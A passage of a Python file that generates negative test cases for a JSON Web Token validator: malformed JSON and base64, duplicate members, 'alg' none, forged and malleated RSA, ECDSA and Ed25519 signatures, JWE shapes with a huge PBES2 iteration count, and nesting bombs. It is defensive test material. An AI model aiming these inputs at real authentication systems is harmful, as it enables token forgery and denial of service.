            yield f"strict {members}", self.with_claims(cnf=value)

    # Text

    def broken_json(self):
        """Header or claims that are no JSON, or no UTF-8, well signed."""
        head = json.dumps(self.header, separators=(",", ":"))
        body = json.dumps(self.claims, separators=(",", ":"))
        for which, text in (("header", head), ("claims", body)):
            other = [
                ("empty", b""), ("a space", b" "), ("cut", text[:-1].encode()), ("cut in half", text[: len(text) // 2].encode()),
                ("two", (text * 2).encode()), ("two and a line end", f"{text}\n{text}".encode()), ("text behind", f"{text}x".encode()),
                ("text before", f"x{text}".encode()), ("bracket behind", f"{text}}}".encode()), ("zero byte behind", f"{text}\0".encode()),
                ("zero byte before", f"\0{text}".encode()), ("comma last", f"{text[:-1]},}}".encode()),
                ("comma first", f"{{,{text[1:]}".encode()),
                ("line comment", f"//x\n{text}".encode()), ("comment", f"/**/{text}".encode()), ("hash comment", f"#x\n{text}".encode()),
                ("single quotes", text.replace('"', "'").encode()),
                ("names without quotes", text.replace('{"', "{", 1).replace('":', ":", 1).encode()), ("UTF-16", text.encode("utf-16")),
                ("UTF-16 big-endian", text.encode("utf-16-be")), ("UTF-16 little-endian", text.encode("utf-16-le")),
                ("UTF-32", text.encode("utf-32")), ("NaN", f'{text[:-1]},"x":NaN}}'.encode()),
                ("Infinity", f'{text[:-1]},"x":Infinity}}'.encode()), ("leading zero", f'{text[:-1]},"x":01}}'.encode()),
                ("plus sign", f'{text[:-1]},"x":+1}}'.encode()), ("hexadecimal", f'{text[:-1]},"x":0x1}}'.encode()),
                ("bare point", f'{text[:-1]},"x":1.}}'.encode()), ("True", f'{text[:-1]},"x":True}}'.encode()),
                ("undefined", f'{text[:-1]},"x":undefined}}'.encode()), ("line end in a string", f'{text[:-1]},"x":"\n"}}'.encode()),
                ("zero byte in a string", f'{text[:-1]},"x":"\0"}}'.encode()), ("bad escape", f'{text[:-1]},"x":"\\x41"}}'.encode()),
                ("short escape", f'{text[:-1]},"x":"\\u12"}}'.encode()), ("number as name", f"{text[:-1]},1:1}}".encode()),
                ("no colon", f'{text[:-1]},"x"1}}'.encode()), ("no comma", f'{text[:-1]} "x":1}}'.encode()),
                ("form feed", f"\f{text}".encode()), ("no-break space", f"\u00a0{text}".encode()), ("CBOR", b"\xa1\x63alg\x65ES256"),
                ("a form", b"alg=ES256&typ=at%2Bjwt"), ("XML", b"<jwt/>"), ("JSON in an array", f"[{text}]".encode()),
            ]
            for name, sequence in [
                ("FF", b"\xff"), ("lone continuation", b"\x80"), ("cut sequence", b"\xc3"), ("overlong slash", b"\xc0\xaf"),
                ("overlong zero", b"\xc0\x80"), ("surrogate", b"\xed\xa0\x80"),
                ("beyond Unicode", b"\xf4\x90\x80\x80"), ("five bytes", b"\xf8\x88\x80\x80\x80"), ("Latin-1", "\u00e9".encode("latin-1")),
            ]:
                other.append((f"not UTF-8: {name}", text[:-1].encode() + b',"x":"' + sequence + b'"}'))
                other.append((f"not UTF-8 in a name: {name}", text[:-1].encode() + b',"' + sequence + b'":1}'))
            other.append(("strict byte order mark", f"\ufeff{text}".encode()))
            for name, bytes_ in other:
                both = (bytes_, self.claims) if which == "header" else (self.header, bytes_)
                strict, name = ("strict ", name[7:]) if name.startswith("strict") else ("", name)
                yield f"{strict}{which}, {name}", self.signed(*both)

    def twice(self):
        """A member that stands twice: two readers could take different ones. Well signed, the good value first and last."""
        def doubled(objects, name, value, first):
            text = json.dumps(objects, separators=(",", ":"))
            escaped = f"\\u{ord(name[0]):04x}{name[1:]}"
            for label, written in ((name, name), (f"{name} escaped", escaped)):
                member = f'"{written}":{json.dumps(value)}'
                yield label, f"{{{member},{text[1:]}" if first else f"{text[:-1]},{member}}}"

        head = [("alg", "none"), ("alg", self.alg), ("typ", "JWT"), ("typ", self.header["typ"]), ("kid", "stranger"), ("jwk", {}), ("x", 1)]
        for (name, value), first in product(head, (True, False)):
            objects = {**self.header, name: self.header.get(name, "x")}
            for label, text in doubled(objects, name, value, first):
                yield f"header {label} {json.dumps(value)} {'first' if first else 'last'}", self.signed(text, self.claims)
        body = [
            ("aud", "https://other.example"), ("aud", self.audience), ("iss", "https://attacker.example"), ("iss", self.issuer),
            ("sub", "mallory"), ("sub", self.claims["sub"]), ("exp", 1), ("exp", self.claims["exp"] + 60), ("iat", 1), ("nbf", 1),
            ("scope", "admin"), ("client_id", "mallory"), ("cnf", {}), ("roles", ["admin"]), ("x", 1),
        ]
        for (name, value), first in product(body, (True, False)):
            objects = {**self.claims, name: self.claims.get(name, "x")}
            for label, text in doubled(objects, name, value, first):
                yield f"claims {label} {json.dumps(value)} {'first' if first else 'last'}", self.signed(self.header, text)
        inner = json.dumps(self.claims, separators=(",", ":"))
        yield "claims, nested", self.signed(self.header, f'{inner[:-1]},"act":{{"sub":"a","sub":"b"}}}}')

    def base64(self):
        """Text that a lenient decoder takes. Header and claims are signed as they are written here, so it is the decoder that has to
        refuse."""
        # Claims whose base64url has both of the characters that differ from base64, and room for padding.
        for salt in range(4096):
            claims = {**self.claims, "x": f"~~{salt}>>??"}
            if all(mark in part(claims) for mark in "-_") and len(part(claims)) % 4:
                break
        head, body = self.parts[0], part(claims)
        for name, spoil in {
            "standard alphabet": lambda text: text.replace("-", "+").replace("_", "/"),
            "plus for hyphen": lambda text: text.replace("-", "+"),
            "slash for underscore": lambda text: text.replace("_", "/"),
            "padding": lambda text: text + "=" * (-len(text) % 4 or 4),
            "one padding": lambda text: f"{text}=",
            "two padding": lambda text: f"{text}==",
            "four padding": lambda text: f"{text}====",
            "padding inside": lambda text: f"{text[:8]}={text[8:]}",
            "stray bits": stray,
            "one character more": lambda text: f"{text}A",
            "one character less": lambda text: text[:-1],
            "tilde": lambda text: f"{text}~",
            "plus behind": lambda text: f"{text}+",
            "space inside": lambda text: f"{text[:8]} {text[8:]}",
            "percent": lambda text: f"{text[:8]}%{ord(text[8]):02X}{text[9:]}",
            "comma": lambda text: f"{text[:8]},{text[8:]}",
            "exclamation mark": lambda text: f"{text}!",
            "base32": lambda text: base64.b32encode(unb64(text)).decode(),
            "hexadecimal": lambda text: unb64(text).hex(),
            "not encoded": lambda text: unb64(text).decode("latin-1").replace(" ", ""),
            "encoded twice": lambda text: b64(text.encode()),
        }.items():
            good = f"{head}.{body}"
            for which, text in (("header", f"{spoil(head)}.{body}"), ("claims", f"{head}.{spoil(body)}")):
                if text != good:
                    yield f"{which}, {name}", self.sealed(text)
            # A signature has its own last characters: one is looked for that has what is spoiled here.
            signature = next((one for one in (b64(self.signature(good)) for _ in range(64)) if spoil(one) != one), None)
            # What is not text cannot be sent.
            if signature and spoil(signature).isascii() and spoil(signature).isprintable():
                yield f"signature, {name}", f"{good}.{spoil(signature)}"

    def part_counts(self):
        """More or fewer parts than three, and none of them where one belongs."""
        head, body, signature = self.parts
        texts = [
            ".", "..", "...", "....", head, body, signature, f"{head}.", f".{head}", f"{head}.{body}", f"{head}.{body}.",
            f"{head}..{signature}", f".{body}.{signature}", f"..{signature}", f"{head}..", f".{body}.", f"{head}.{body}.{signature}.",
            f".{head}.{body}.{signature}", f"{head}..{body}.{signature}", f"{head}.{body}..{signature}",
            f"{head}.{body}.{signature}.{signature}", f"{head}.{body}.{body}.{signature}", f"{head}.{head}.{body}.{signature}",
            f"{head}{body}{signature}", f"{head}{body}.{signature}", f"{head}.{body}{signature}", f"{head}-{body}-{signature}",
            f"{head}_{body}_{signature}", f"{head}/{body}/{signature}", f"{head}~{body}~{signature}", f"{self.good}~",
            f"{self.good}.{self.good}", f"{self.good}{self.good}", f"{self.good},{self.good}", f"{self.good} {self.good}",
            f"{body}.{head}.{signature}", f"{signature}.{body}.{head}", f"{head}.{signature}.{body}", f"{head}.{head}.{signature}",
            f"{body}.{body}.{signature}", f"{head}.{body}.{body}", f"{head}.{body}.{head}", f'"{self.good}"', f"<{self.good}>",
            f"Bearer{self.good}", f"Bearer {self.good}", self.good[::-1], self.good.upper(), self.good.lower(), self.good.swapcase(),
            b64(self.good.encode()), self.good.encode().hex(), "null", "undefined", "0", "none", "e30.e30.", "e30.e30.e30", "a.b.c", "=",
            "==", "...=", "{}", "[]", "a" * 100,
        ]
        for at, text in enumerate(texts):
            yield f"{at}", text
        flattened = {"protected": head, "payload": body, "signature": signature}
        general = {"payload": body, "signatures": [{"protected": head, "signature": signature}]}
        for name, value in (("flattened", flattened), ("general", general)):
            text = json.dumps(value, separators=(",", ":"))
            yield f"{name} JSON", text
            yield f"{name} JSON, encoded", b64(text.encode())

    def encrypted(self):
        """Shapes of JWE (RFC 7516). None of them decrypts, and none must be tried: the last would take for ever."""
        kinds = [("dir", {}), ("RSA-OAEP", {}), ("RSA1_5", {}), ("A128KW", {}),
            ("ECDH-ES", {"epk": {"kty": "EC", "crv": "P-256", "x": b64(bytes(32)), "y": b64(bytes(32))}}), ("none", {}), (self.alg, {})]
        kinds += [("PBES2-HS512+A256KW", {"p2s": b64(bytes(16)), "p2c": 2**31 - 1})]
        for alg, more in kinds:
            head = part({**self.header, "alg": alg, "enc": "A256GCM", **more})
            yield f"{alg}", f"{head}.{b64(bytes(32))}.{b64(bytes(12))}.{self.parts[1]}.{b64(bytes(16))}"
            yield f"{alg}, no key", f"{head}..{b64(bytes(12))}.{self.parts[1]}.{b64(bytes(16))}"
            yield f"{alg}, empty", f"{head}...."
            yield f"{alg}, in three parts", f"{head}.{self.parts[1]}.{self.parts[2]}"

    def sizes(self):
        """Well signed, and too big or too deep."""
        for name, inner in {
            "arrays": "[" * 4000 + "]" * 4000, "objects": '{"a":' * 1500 + "1" + "}" * 1500, "arrays left open": "[" * 8000,
            "objects left open": '{"a":' * 2000, "arrays, 200 levels": "[" * 200 + "]" * 200,
        }.items():
            yield f"deep claims, {name}", self.signed(self.header, f'{json.dumps(self.claims)[:-1]},"x":{inner}}}')
            yield f"deep header, {name}", self.signed(f'{json.dumps(self.header)[:-1]},"x":{inner}}}', self.claims)
        for name, size in {"16 KiB and one byte or little more": TOKEN_BYTES_MAX + 1, "32 KiB": 2 * TOKEN_BYTES_MAX,
            "64 KiB": 4 * TOKEN_BYTES_MAX, "1 MiB": 1024 * 1024}.items():
            yield f"claims of {name}", self.stretched(size)
            yield f"header of {name}", self.signed({**self.header, "x": "a" * (size * 3 // 4)}, self.claims)
        yield "signature of 16 KiB", f"{self.parts[0]}.{self.parts[1]}.{'A' * TOKEN_BYTES_MAX}"
        yield "1 MiB of one letter", "a" * 1024 * 1024

    def stretched(self, size):
        """A good token, but for its length: the shortest one of at least so many bytes."""
        token, fill = self.good, (size - len(self.good)) * 3 // 4 - 16
        while len(token) < size:
            fill += 1
            token = self.with_claims(x="a" * fill)
        return token

    # Signatures

    def signatures(self):
        """The good header and claims under something that is not their signature."""
        text = ".".join(self.parts[:2])
        good = unb64(self.parts[2])
        for name, value in [*self.byte_changes(good), *self.number_changes(good)]:
            if value != good:
                yield name, f"{text}.{b64(value)}"
        yield "empty", f"{text}."
        yield "of another token", f"{text}.{self.with_claims(jti='other').split('.')[2]}"
        yield "over the claims alone", f"{text}.{b64(self.signature(self.parts[1]))}"
        yield "over the header alone", f"{text}.{b64(self.signature(self.parts[0]))}"
        yield "over the decoded text", f"{text}.{b64(self.signature(unb64(self.parts[0]) + b'.' + unb64(self.parts[1])))}"
        yield "over the text and a dot", f"{text}.{b64(self.signature(f'{text}.'))}"
        yield "over its digest", f"{text}.{b64(self.signature(hashlib.sha256(text.encode()).digest()))}"
        yield "over nothing", f"{text}.{b64(self.signature(''))}"

    def byte_changes(self, good):
        """What can be done to any signature."""
        for length in range(len(good)):
            yield f"cut to {length} bytes", good[:length]
            yield f"last {length} bytes", good[len(good) - length :]
        for count in (1, 2, 3, 4, 16, 32, len(good)):
            yield f"{count} zero bytes behind", good + bytes(count)
            yield f"{count} zero bytes before", bytes(count) + good
            yield f"{count} random bytes behind", good + self.random.randbytes(count)
        for name, value in {
            "zero": bytes(len(good)), "ones": b"\xff" * len(good), "one": bytes(len(good) - 1) + b"\1", "reversed": good[::-1],
            "twice": good * 2, "halves swapped": good[len(good) // 2 :] + good[: len(good) // 2],
            "first half twice": good[: len(good) // 2] * 2, "second half twice": good[len(good) // 2 :] * 2,
            "complement": bytes(255 - one for one in good), "as base64 text": b64(good).encode(),
            "as hexadecimal text": good.hex().encode(),
        }.items():
            yield name, value
        for at in range(16):
            yield f"random {at}", self.random.randbytes(len(good))

    def number_changes(self, good):
        """What the numbers in a signature allow."""
        if self.alg in CURVES:
            yield from self.ecdsa_changes(good, **CURVES[self.alg])
        elif isinstance(self.key, rsa.RSAPrivateKey):
            modulus = self.key.public_key().public_numbers().n
            value = int.from_bytes(good, "big")
            for name, number in {"n": modulus, "n - 1": modulus - 1, "s + n": value + modulus, "n - s": modulus - value, "2": 2,
                "e": 65537}.items():
                yield f"RSA {name}", number.to_bytes(max(len(good), (number.bit_length() + 7) // 8), "big")
        else:
            point, scalar = good[:32], int.from_bytes(good[32:], "little")
            for factor in range(1, 8):
                bigger = scalar + factor * ED25519_ORDER
                if bigger < 2**256:
                    yield f"S + {factor} L", point + bigger.to_bytes(32, "little")
            for name, value in {"neutral point": b"\1" + bytes(31),
                "low order": bytes.fromhex("ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f"),
                "p": bytes.fromhex("edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f")}.items():
                yield f"R is the {name}", value + good[32:]
                yield f"R is the {name}, S is zero", value + bytes(32)

    def ecdsa_changes(self, good, size, order):
        """Pairs of numbers out of range, and others' encodings. (r, n - s) is valid, so it is not here."""
        r, s = int.from_bytes(good[:size], "big"), int.from_bytes(good[size:], "big")
        word = lambda number, length=size: number.to_bytes(length, "big")
        odd = {"0": 0, "1": 1, "n": order, "n - 1": order - 1, "n + 1": order + 1, "the biggest": 2 ** (8 * size) - 1}
        for (left, one), (right, two) in product([*odd.items(), ("r", r)], [*odd.items(), ("s", s)]):
            # A pair of numbers in range could be valid by chance only, which nobody has seen.
            if (left, right) != ("r", "s"):
                yield f"({left}, {right})", word(one) + word(two)
        for name, (one, two) in {"(s, r)": (s, r), "(n - r, s)": (order - r, s), "(n - r, n - s)": (order - r, order - s), "(r, r)": (r, r),
            "(s, s)": (s, s)}.items():
            yield name, word(one) + word(two)
        for name, (one, two) in {"(r + n, s)": (r + order, s), "(r, s + n)": (r, s + order),
            "(r + n, s + n)": (r + order, s + order)}.items():
            yield f"{name}, a byte more each", word(one, size + 1) + word(two, size + 1)
            if max(one, two) < 2 ** (8 * size):
                yield name, word(one) + word(two)
        der = encode_dss_signature(r, s)
        yield "DER", der
        yield "DER of (r, n - s)", encode_dss_signature(r, order - s)
        yield "DER, zero bytes to length", (der + b"\0" * 2 * size)[: max(len(der), 2 * size)]
        yield "DER, cut to length", der[: 2 * size]
        yield "DER of zeros", encode_dss_signature(0, 0)
        yield "little-endian", good[:size][::-1] + good[size:][::-1]
        yield "a zero byte before each", b"\0" + good[:size] + b"\0" + good[size:]
        yield "as SEC 1 point", b"\4" + good
        text = ".".join(self.parts[:2])
        for _ in range(4000):
            short = self.signature(text)
            if short[0] == 0:
                yield "leading zero of r left out", short[1:]
                break
        for _ in range(4000):
            short = self.signature(text)
            if short[size] == 0:
                yield "leading zero of s left out", short[:size] + short[size + 1 :]
                break
        assert decode_dss_signature(der) == (r, s)

    def mixed(self):
        """Parts of good tokens that do not belong together."""
        for name, changes in {
            "another subject": {"sub": "mallory"}, "more scope": {"scope": "admin *"}, "another client": {"client_id": "mallory"},
            "longer": {"exp": self.claims["exp"] + 60}, "roles": {"roles": ["admin"]}, "another id": {"jti": "1"},
        }.items():
            body = part(changed(self.claims, changes))
            yield f"{name}, the good one's signature", f"{self.parts[0]}.{body}.{self.parts[2]}"
            yield f"{name}, a stranger's signature", self.sealed(f"{self.parts[0]}.{body}", key=self.other)
        respaced = part(json.dumps(self.claims, indent=1))
        yield "the same claims written otherwise", f"{self.parts[0]}.{respaced}.{self.parts[2]}"
        yield "the same header written otherwise", f"{part(json.dumps(self.header, indent=1))}.{self.parts[1]}.{self.parts[2]}"
        whole = json.dumps(self.claims, separators=(",", ":")).replace("/", "\\/")
        yield "the same claims with escapes", f"{self.parts[0]}.{part(whole)}.{self.parts[2]}"

    def flips(self):
        """One bit changed: every one of the signature, and of header and claims as many as there is room for."""
        for at, name in enumerate(("header", "claims", "signature")):
            bits = list(range(8 * len(unb64(self.parts[at]))))
            if name != "signature" and len(bits) > FLIPS_MAX:
                bits = sorted(self.random.sample(bits, FLIPS_MAX))
            for bit in bits:
                changed_part = bytearray(unb64(self.parts[at]))
                changed_part[bit // 8] ^= 1 << (bit % 8)
                parts = [*self.parts]
                parts[at] = b64(bytes(changed_part))
                yield f"{name}, bit {bit}", ".".join(parts)
        for at in range(0, len(self.good), 7):
            if self.good[at] != ".":
                yield f"character {at} gone", self.good[:at] + self.good[at + 1 :]
                yield f"character {at} twice", self.good[:at] + self.good[at] + self.good[at:]


ABSENT = object()


def changed(members, changes):
    """A copy with changes; `ABSENT` removes a member."""
    return {name: value for name, value in {**members, **changes}.items() if value is not ABSENT}


def part(value):
    """An object, text or bytes as a part of a token."""
    if isinstance(value, dict):
        value = json.dumps(value, separators=(",", ":"))
    return b64(value if isinstance(value, bytes) else value.encode())


def b64(value):
    """Base64url without padding."""
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def unb64(text):
    """The bytes of a part."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def mac(secret, text, bits):
    """An HMAC, with a secret that PyJWT would refuse to use."""
    return hmac.digest(secret, text.encode(), f"sha{bits}")


def stray(text):
    """The same bytes with bits set that no byte has; the text itself where there are none."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + alphabet[alphabet.index(text[-1]) | 1] if len(text) % 4 else text


def unique(pairs):
    """Pairs whose second is new, in their order."""
    seen = set()
    return [(name, value) for name, value in pairs if not (value in seen or seen.add(value))]


main()
